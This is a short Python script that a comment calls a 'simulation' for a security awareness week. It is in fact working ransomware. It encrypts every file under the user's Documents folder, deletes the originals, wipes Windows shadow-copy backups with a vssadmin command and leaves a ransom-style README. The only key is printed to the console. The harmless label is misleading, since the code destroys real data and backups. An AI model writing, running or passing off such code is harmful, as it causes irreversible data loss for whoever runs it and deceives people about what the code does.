# "simulation" for the security awareness week
import os
from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
root = os.path.expanduser("~/Documents")

for folder, _, files in os.walk(root):
    for name in files:
        path = os.path.join(folder, name)
        with open(path, "rb") as src:
            data = src.read()
        with open(path + ".locked", "wb") as dst:
            dst.write(f.encrypt(data))
        os.remove(path)

os.system("vssadmin delete shadows /all /quiet")
with open(os.path.join(root, "README.txt"), "w") as note:
    note.write("call the service desk")
print(key)
